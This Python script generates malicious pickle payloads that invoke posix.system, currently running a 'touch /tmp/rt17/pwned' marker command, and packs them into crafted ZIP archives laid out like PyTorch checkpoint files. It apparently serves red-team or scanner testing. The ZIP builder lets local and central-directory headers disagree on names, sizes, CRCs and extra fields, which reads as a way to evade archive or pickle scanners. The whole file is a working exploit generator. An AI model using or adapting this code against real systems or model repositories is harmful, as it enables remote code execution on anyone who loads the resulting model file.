import struct, zlib
def payload(tag, proto2=True):
    cmd = f"touch /tmp/rt17/pwned_{tag}".encode()
    return (b"\x80\x02" if proto2 else b"") + b"cposix\nsystem\n(X" + struct.pack("<I", len(cmd)) + cmd + b"tR."
def lfh(name, data, method=0, crc=None, csize=None, usize=None, flags=0, extra=b"", time=0x1234, lname=None):
    crc = zlib.crc32(data) if crc is None else crc
    csize = len(data) if csize is None else csize
    usize = len(data) if usize is None else usize
    n = (lname if lname is not None else name).encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, method, time, 0x5000, crc, csize & 0xffffffff, usize & 0xffffffff, len(n), len(extra)) + n + extra
def cdh(name, off, data, method=0, crc=None, csize=None, usize=None, flags=0, extra=b"", time=0x1234):
    crc = zlib.crc32(data) if crc is None else crc
    csize = len(data) if csize is None else csize
    usize = len(data) if usize is None else usize
    n = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, method, time, 0x5000, crc, csize, usize, len(n), len(extra), 0, 0, 0, 0, off) + n + extra
def eocd(n, cdsize, cdoff, comment=b"", ncomment=None):
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, cdsize, cdoff, len(comment) if ncomment is None else ncomment) + comment
def build(members):
    """members: list of dict(name, data, stored bytes 'raw' optional, cd overrides)"""
    out = b""; cds = b""
    for m in members:
        off = len(out)
        raw = m.get("raw", m["data"])
        out += lfh(m["name"], m["data"], method=m.get("method",0), csize=m.get("lcsize", len(raw)), usize=m.get("lusize"), flags=m.get("flags",0), extra=m.get("lextra", b""), lname=m.get("lname"), crc=m.get("crc"), time=m.get("time",0x1234)) + raw + m.get("after", b"")
        cds += cdh(m["name"], off, m["data"], method=m.get("method",0), csize=m.get("csize", len(raw)), usize=m.get("usize"), flags=m.get("flags",0), extra=m.get("cextra", b""), crc=m.get("crc"), time=m.get("time",0x1234))
    return out + cds + eocd(len(members), len(cds), len(out))
def torch_members(pkl, prefix="archive", **kw):
    ms = [dict(name=f"{prefix}/data.pkl", data=pkl, **kw),
          dict(name=f"{prefix}/byteorder", data=b"little"),
          dict(name=f"{prefix}/version", data=b"3\n")]
    return ms
